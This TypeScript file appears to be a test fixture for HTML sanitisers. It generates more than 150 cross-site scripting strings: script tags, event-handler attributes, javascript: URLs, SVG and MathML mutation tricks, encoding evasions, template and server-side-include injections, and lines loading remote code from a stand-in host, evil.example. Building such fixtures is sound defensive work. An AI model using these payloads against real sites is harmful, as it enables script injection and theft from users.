// Texts that would run as a script wherever a page took them for markup: 150 and more, each setting `pwned`.

const run = 'pwned=1';
const tags = ['img src=x', 'svg', 'video src=x', 'audio src=x', 'body', 'details open', 'input autofocus', 'iframe', 'marquee', 'a href=x', 'select autofocus', 'table', 'div', 'object data=x', 'style', 'textarea autofocus', 'button autofocus', 'x contenteditable']; // prettier-ignore
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
];

const written = [
  `<script>${run}</script>`, `<script src=https://evil.example/x.js></script>`, `<ScRiPt>${run}</sCrIpT>`, `<script/x>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`, `'><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`,
  `" onmouseover="${run}`, `' onfocus='${run}' autofocus='`, `" autofocus onfocus=${run} x="`, `javascript:${run}`, `javascript://%0a${run}`, `JaVaScRiPt:${run}`, `data:text/html,<script>${run}</script>`, `vbscript:${run}`,
  `<a href="javascript:${run}">x</a>`, `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<embed src="javascript:${run}">`, `<object data="javascript:${run}">`, `<form action="javascript:${run}"><input type=submit>`, `<button formaction="javascript:${run}">x`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=import href=https://evil.example/>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`, `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`, `{{7*7}}`, `[[${run}]]`, `[x](javascript:${run})`, `![x](x"onerror="${run})`, `<!--#exec cmd="x"-->`, `<?php ${run} ?>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `%3Cscript%3E${run}%3C/script%3E`, `＜script＞${run}＜/script＞`, `<\u200bscript>${run}</script>`, `<img src=x onerror=\u2028${run}>`, `\u202e<script>${run}</script>`,
  `<style>@import 'https://evil.example/x.css'</style>`, `<div style="background:url(https://evil.example/x)">`, `<img src=https://evil.example/x.png>`, `<video poster=https://evil.example/x.png>`, `<img srcset="https://evil.example/x 1x">`,
  `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `<img src=x:x onerror=${run}//`, `<img/src/onerror=${run}>`, `<img \`x\` onerror=${run}>`, `<svg/onload=${run}`, `<<img src=x onerror=${run}>>`, `<img src="x" onerror="top.${run}">`,
]; // prettier-ignore

/** Each is a line of at most 120 characters. */
export const markup: readonly string[] = [
  ...written,
  ...tags.flatMap((tag) =>
    handlers.filter((_, index) => index < 5).map((handler) => `<${tag} ${handler}=${run}>`),
  ),
]
  .map((text) => text.replaceAll(/[\u2028\u2029]/g, ' '))
  .filter((text) => text.length <= 120);
